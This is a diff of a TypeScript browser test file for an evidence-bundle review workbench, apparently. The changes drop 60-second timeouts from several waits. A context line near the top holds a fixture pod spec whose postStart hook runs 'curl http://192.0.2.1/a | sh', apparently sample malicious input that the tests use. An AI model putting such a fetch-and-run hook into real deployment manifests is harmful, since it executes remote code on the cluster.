@@ -19,7 +19,7 @@ spec:
       lifecycle: { postStart: { exec: { command: [sh, -c, "curl http://192.0.2.1/a | sh"] } } }
 `;
 
-const opened = (page: Page) => page.getByRole('tab', { name: 'What it holds' }).waitFor({ timeout: 60_000 });
+const opened = (page: Page) => page.getByRole('tab', { name: 'What it holds' }).waitFor();
 
 describe.each(['light', 'dark'] as const)('%s', (colorScheme) => {
   let workbench: BrowserWorkbench;
@@ -98,7 +98,7 @@ describe.each(['light', 'dark'] as const)('%s', (colorScheme) => {
     await visit(page, '#/review');
     await page.getByRole('textbox', { name: 'Evidence bundle' }).fill(path);
     await page.getByRole('button', { name: 'Review', exact: true }).click();
-    await page.getByRole('region', { name: 'Identity' }).waitFor({ timeout: 60_000 });
+    await page.getByRole('region', { name: 'Identity' }).waitFor();
     expect(await seriousViolations(page)).toEqual([]);
     await dropFiles(page, [{ name: 'other.txt', text: identities.other }]);
     await page.getByText('No key of the identity file opens this bundle.').waitFor();
@@ -113,7 +113,7 @@ describe.each(['light', 'dark'] as const)('%s', (colorScheme) => {
 
     // The same with a file that the browser hands over, which the workbench reads once.
     await dropFiles(page, [{ name: 'secret.evidence.zip.age', bytes: readFileSync(path) }]);
-    await page.getByRole('region', { name: 'Identity' }).waitFor({ timeout: 60_000 });
+    await page.getByRole('region', { name: 'Identity' }).waitFor();
     const identity = join(workbench.home, 'identity.txt');
     writeFileSync(identity, identities.own);
     await page.getByRole('textbox', { name: 'The identity that opens it' }).fill(identity);
